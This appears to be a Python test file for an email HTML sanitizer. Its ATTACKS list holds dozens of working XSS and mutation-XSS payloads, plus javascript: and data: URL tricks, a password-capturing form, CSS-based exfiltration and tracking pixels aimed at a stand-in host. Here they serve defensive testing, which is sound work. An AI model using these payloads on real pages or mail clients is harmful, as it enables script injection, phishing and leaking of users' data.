"""HTML of strangers is harmless, small and still readable: F24."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib.mail.reader import clean_html
from chalicelib.mail.reader.html import html_to_text
from chalicelib.mail.reader.tame import ATTRIBUTES, DEPTH, TAGS


class _Judge(HTMLParser):
    """Collects what must not be there; reads with another parser than the cleaner."""

    def __init__(self):
        super().__init__()
        self.wrong, self.open, self.deepest = [], 0, 0

    def handle_starttag(self, tag, attrs):
        self.open += tag not in ("br", "hr", "img")
        self.deepest = max(self.deepest, self.open)
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if tag not in TAGS or {name for name, _ in attrs} - allowed:
            self.wrong.append((tag, attrs))
        for name, value in attrs:
            wanted = ("http://", "https://", "mailto:") if name == "href" else ("cid:",)
            if name in ("href", "src") and not (value or "").strip().lower().startswith(wanted):
                self.wrong.append((tag, name, value))

    def handle_endtag(self, tag):
        self.open -= 1

    def handle_comment(self, data):
        self.wrong.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def _assert_harmless(cleaned: str) -> None:
    judge = _Judge()
    judge.feed(cleaned)
    judge.close()
    assert judge.wrong == []
    assert judge.deepest <= DEPTH + 5


ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="cid:a" onerror=alert(1)>',
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//x.example'>x</a>",
    "<a href='cid:x'>x</a>",
    "<iframe src='https://x.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://x.example'><input name=password><button>ok</button></form>",
    "<base href='https://x.example/'>",
    "<meta http-equiv=refresh content='0;url=https://x.example'>",
    "<link rel=stylesheet href='https://x.example/x.css'>",
    "<style>@import 'https://x.example/x.css'; input[value^=a]{background:url(https://x.example/a)}</style>",
    "<p style='background:url(https://x.example/p)'>x</p>",
    "<table background='https://x.example/p'><tr><td>x</td></tr></table>",
    "<img src='https://x.example/p.gif' width=1 height=1>",
    "<img srcset='https://x.example/p.gif 1x' src='cid:a'>",
    "<video poster='https://x.example/p'><source src='https://x.example/v'></video>",
    "<b class=x id=y name=z data-x=1>x</b>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '<a href="https://x.example" title="x" onclick=alert(1) target=_blank>x</a>',
    "<b <script>alert(1)</script>>",
    '<a href="https://x.example/"onmouseover="alert(1)">x</a>',
    "<template><script>alert(1)</script></template>",
    "<p>x</p\x00><scr\x00ipt>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_survives_cleaning(attack):
    """F24: scripts, handlers, mutation by svg and math, schemes, forms, styles, outside requests."""
    cleaned = clean_html(f"<p>before</p>{attack}<p>after</p>")
    _assert_harmless(cleaned)
    assert "before" in cleaned
    assert clean_html(cleaned) == cleaned


@settings(max_examples=300)
@given(
    st.lists(
        st.sampled_from(ATTACKS) | st.sampled_from(["<", ">", '"', "'", "--", "</", "<p", "x", "<td>", "<b>"])
    )
)
def test_no_mixture_of_attacks_survives_cleaning(pieces):
    """F24: nor does cleaning change what is already clean, which is how mutations begin."""
    cleaned = clean_html("".join(pieces))
    _assert_harmless(cleaned)
    again = clean_html(cleaned)
    _assert_harmless(again)
    assert len(again) <= 1.2 * len(cleaned) + 100


def test_a_link_leaves_without_telling_where_from():
    """F24."""
    cleaned = clean_html('<a href="https://x.example/?a=1&amp;b=2" target=_blank>x</a>')
    assert cleaned == '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>'


def test_a_remote_image_becomes_its_description_and_a_pixel_nothing():
    """F24: no outside request."""
    assert clean_html('<p>a<img src="https://x.example/a.png" alt="a <b> graph">b</p>') == (
        "<p>a[image: a &lt;b&gt; graph]b</p>"
    )
    assert clean_html('<p>a<img src="https://x.example/a.gif">b</p>') == "<p>ab</p>"


@pytest.mark.parametrize(
    ("sloppy", "expected"),
    [
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"),
        ("<b>bold<i>both</b>plain", "<b>bold<i>both</i></b>plain"),
        ("a < b and c > d", "a &lt; b and c &gt; d"),
        ("<a href=https://x.example/y>bare</a>", None),
        ("5 <3 you", "5 &lt;3 you"),
        ('<p class=a">quote</p>', "<p>quote</p>"),
        ("<o:p>word</o:p><font color=red>red</font>", "wordred"),
        ("<head><title>no</title></head><body>yes</body>", "yes"),
        ("<!-- never closed", ""),
    ],
)
def test_sloppy_html_keeps_its_text(sloppy, expected):
    """B1: HTML as mail programs write it."""
    cleaned = clean_html(sloppy)
    _assert_harmless(cleaned)
    if expected is not None:
        assert cleaned == expected


def test_a_table_stays_a_table():
    html = '<table><tbody><tr><th colspan="2">a</th></tr><tr><td>b</td><td>c</td></tr></tbody></table>'
    assert clean_html(html) == html


def test_entities_bring_no_control_characters_back():
    """F22, F24."""
    cleaned = clean_html("<p>a&#7;b&#27;[31m&#0;&#xD800;c</p>")
    assert cleaned == "<p>ab[31m\ufffd\ufffdc</p>"
    assert "\x1b" not in html_to_text(cleaned)


def test_html_cut_for_its_size_says_so():
    """F24: bounded, and told."""
    assert "[cut:" in clean_html("<br>" * 30_001)
    assert "[cut:" in clean_html("x" * 1_000_001)


def test_text_of_html_keeps_lists_quotes_and_links():
    """B1: an HTML-only mail."""
    html = '<p>Hi</p><ol><li>one</li><li>two</li></ol><blockquote>old</blockquote><a href="https://x.example">x</a>'
    text = html_to_text(clean_html(html))
    assert text == "Hi\n\n  1. one\n  2. two\n\n> old\n\n[x](https://x.example)"
